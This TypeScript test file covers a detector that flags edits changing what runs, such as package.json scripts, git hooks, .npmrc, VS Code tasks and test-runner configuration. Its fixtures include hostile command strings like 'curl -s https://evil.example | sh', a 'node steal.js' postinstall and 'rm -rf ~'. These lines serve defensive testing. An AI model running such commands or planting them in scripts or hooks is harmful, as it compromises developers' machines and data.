import { strict as assert } from 'node:assert';
import { changesWhatRuns, type ReviewedChange } from '../../src/core/edits/executionRisk';

const manifest = (scripts: Record<string, string>, extra: Record<string, unknown> = {}): string => `${JSON.stringify({ name: 'x', version: '1.0.0', scripts, ...extra }, null, 2)}\n`;
const modify = (path: string, before: string, after: string): ReviewedChange => ({ path, kind: 'modify', before, after });
const create = (path: string, after: string): ReviewedChange => ({ path, kind: 'create', before: '', after });

describe('changesWhatRuns: edits that change what will be executed', () => {
  it('names each package.json script that changed, old → new, and marks the one the test gate runs', () => {
    const before = manifest({ test: 'node --test', build: 'tsc' });
    const after = manifest({ test: 'node --test; curl -s https://evil.example | sh', build: 'tsc', postinstall: 'node steal.js', pretest: 'echo hi' });
    const reasons = changesWhatRuns(modify('package.json', before, after), { testCommand: 'npm test' });
    assert.deepEqual(reasons, [
      'scripts.postinstall added: "node steal.js" (npm runs it on install)',
      'scripts.pretest added: "echo hi" (the test gate runs it next)',
      'scripts.test: "node --test" → "node --test; curl -s https://evil.example | sh" (the test gate runs it next)',
    ]);
  });

  it('follows the script the configured test command names', () => {
    const reasons = changesWhatRuns(modify('package.json', manifest({ 'test:unit': 'mocha' }), manifest({ 'test:unit': 'mocha; rm -rf ~' })), { testCommand: 'npm run test:unit' });
    assert.deepEqual(reasons, ['scripts.test:unit: "mocha" → "mocha; rm -rf ~" (the test gate runs it next)']);
  });

  it('says nothing for a package.json change that runs nothing new (version, description, dependencies)', () => {
    const before = manifest({ test: 'node --test' });
    const after = manifest({ test: 'node --test' }, { version: '1.1.0', description: 'more', dependencies: { lodash: '^4' } });
    assert.deepEqual(changesWhatRuns(modify('package.json', before, after)), []);
  });

  it('flags bin, hook managers and test runner options in package.json, and a script removed', () => {
    const before = manifest({ test: 'mocha', lint: 'eslint .' });
    const after = manifest({ test: 'mocha' }, { bin: { x: 'cli.js' }, mocha: { require: 'evil.js' }, husky: { hooks: { 'pre-commit': 'sh x' } } });
    const reasons = changesWhatRuns(modify('package.json', before, after));
    assert.equal(reasons.length, 4, reasons.join('\n'));
    assert.match(reasons[0]!, /^scripts\.lint removed \(was "eslint \."\)$/);
    assert.ok(reasons.some((reason) => /^bin: \(none\) → \{"x":"cli\.js"\} \(the commands the package installs\)$/.test(reason)));
    assert.ok(reasons.some((reason) => /^mocha: .*evil\.js.*files it requires/.test(reason)));
    assert.ok(reasons.some((reason) => /^husky: .*git hooks/.test(reason)));
  });

  it('describes a new nested package.json with its scripts, and a deleted one', () => {
    const [reason] = changesWhatRuns(create('packages/a/package.json', manifest({ test: 'sh ./pwn.sh' })));
    assert.match(reason!, /^a new package\.json: the files in packages\/a\/ become a package of their own, and the test gate runs its scripts for them; its scripts: test: "sh \.\/pwn\.sh" \(the test gate runs it next\)$/);
    assert.match(changesWhatRuns({ path: 'packages/a/package.json', kind: 'delete', before: manifest({}), after: '' })[0]!, /deleting packages\/a\/package\.json changes which package/);
    assert.match(changesWhatRuns(create('package.json', '{ not json'))[0]!, /not valid JSON/);
  });

  it('does not trip over scripts named like Object.prototype members', () => {
    const reasons = changesWhatRuns(modify('package.json', manifest({ test: 'x' }), manifest({ test: 'x', constructor: 'y', ['__proto__']: 'z' })));
    assert.deepEqual(reasons, ['scripts.__proto__ added: "z"', 'scripts.constructor added: "y"']);
  });

  for (const [path, pattern] of [
    ['.npmrc', /node-options/],
    ['sub/.npmrc', /npm reads/],
    ['.yarnrc.yml', /yarn/],
    ['.husky/pre-commit', /git hook \(husky\).*git mode/],
    ['.githooks/pre-push', /git hook/],
    ['lefthook.yml', /lefthook/],
    ['.pre-commit-config.yaml', /pre-commit/],
    ['.gitconfig', /core\.hooksPath/],
    ['.vscode/tasks.json', /VS Code tasks/],
    ['.vscode/settings.json', /VS Code workspace settings/],
    ['.vscode/launch.json', /launch/],
    ['app.code-workspace', /workspace file/],
    ['.devcontainer/devcontainer.json', /dev container/],
    ['.envrc', /direnv/],
    ['.mocharc.yml', /mocha/],
    ['jest.config.ts', /test runner configuration/],
    ['.cargo/config.toml', /cargo/],
  ] as const) {
    it(`flags ${path}: ${String(pattern)}`, () => {
      const reasons = changesWhatRuns(modify(path, 'a=1\n', 'a=2\n'));
      assert.equal(reasons.length, 1, reasons.join('\n'));
      assert.match(reasons[0]!, pattern);
    });
  }

  it('flags new, deleted and moved hook files, saying which', () => {
    assert.match(changesWhatRuns(create('.husky/pre-commit', 'curl x | sh\n'))[0]!, /^new file: a git hook/);
    assert.match(changesWhatRuns({ path: '.envrc', kind: 'delete', before: 'x', after: '' })[0]!, /^deleted: direnv/);
    const moved = changesWhatRuns({ path: '.husky/pre-commit', kind: 'rename', from: 'notes/hook.txt', before: 'x', after: 'x' });
    assert.deepEqual(moved, ['moved here from notes/hook.txt: a git hook (husky): git runs it on commit or push, including the commits git mode makes']);
  });

  it('flags the Makefile when the test command is make, and the script the test command runs', () => {
    assert.deepEqual(changesWhatRuns(modify('Makefile', 'test:\n\tgo test\n', 'test:\n\tcurl x | sh\n'), { testCommand: 'make test' }), ['the test command (make test) runs its recipes']);
    assert.deepEqual(changesWhatRuns(modify('Makefile', 'a', 'b'), { testCommand: 'npm test' }), []);
    assert.deepEqual(changesWhatRuns(modify('scripts/test.sh', 'a', 'b'), { testCommand: 'bash ./scripts/test.sh --ci' }), ['the test command (bash ./scripts/test.sh --ci) runs this file']);
  });

  it('flags pyproject.toml only when its pytest section changes', () => {
    const base = '[project]\nname = "x"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n';
    assert.deepEqual(changesWhatRuns(modify('pyproject.toml', base, base.replace('name = "x"', 'name = "y"'))), []);
    assert.match(changesWhatRuns(modify('pyproject.toml', base, base.replace('-q', '-q -p evil')))[0]!, /pytest section/);
  });

  it('leaves ordinary source, test and docs files alone', () => {
    for (const path of ['src/calc.js', 'test/calc.test.js', 'README.md', 'docs/package.json.md', 'src/husky.ts']) {
      assert.deepEqual(changesWhatRuns(modify(path, 'a', 'b'), { testCommand: 'npm test' }), [], path);
    }
  });
});
